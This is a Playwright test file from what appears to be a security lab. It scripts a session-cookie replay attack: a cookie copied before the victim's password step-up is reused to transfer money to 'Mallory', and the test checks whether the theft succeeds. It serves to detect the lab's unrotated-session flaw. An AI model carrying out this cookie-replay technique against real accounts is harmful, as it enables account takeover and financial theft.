// Attack (lab flaw `no-rotation-on-step-up`): Mallory copied the victim's session cookie while
// it was stale. The victim confirms a transfer with the password; Mallory's copy now carries
// that fresh step-up and she sends herself money without knowing the password.
import {
  balanceOf,
  expectAttack,
  fillTransfer,
  SESSION_COOKIE,
  sessionCookieValue,
  signInStale,
  test,
} from "../support/fixtures";

test("a cookie copied before the victim's step-up moves money without the password", async ({
  browser,
  baseURL,
  user,
  createUser,
  db,
  target,
}) => {
  const victim = await browser.newContext({ baseURL });
  const victimPage = await victim.newPage();
  await signInStale(victimPage, db, user);
  const copied = (await sessionCookieValue(victimPage))!;
  const mallory = await createUser();
  const victimPayee = await createUser();

  await fillTransfer(victimPage, victimPayee, "10.00");
  await victimPage.getByRole("button", { name: "Send transfer" }).click();
  await victimPage.getByLabel("Password").fill(user.password);
  await victimPage.getByRole("button", { name: "Confirm transfer" }).click();
  await victimPage.getByRole("heading", { name: "Transfer sent" }).waitFor();

  const thief = await browser.newContext({ baseURL });
  await thief.addCookies([{ name: SESSION_COOKIE, value: copied, url: baseURL! }]);
  const page = await thief.newPage();
  await page.goto("/transfers");
  if (page.url().includes("/transfers")) {
    await fillTransfer(page, mallory, "500.00");
    await page.getByRole("button", { name: "Send transfer" }).click();
    // Sent, asked for the password, or thrown out: any of these ends the attempt.
    await page
      .getByRole("heading", { name: "Transfer sent" })
      .or(page.getByRole("group", { name: "Confirm it's you" }))
      .or(page.getByLabel("Email"))
      .waitFor();
  }
  const stolen = (await balanceOf(db, mallory.accountId)) > 250_000;

  expectAttack(target, stolen);
  await victim.close();
  await thief.close();
});
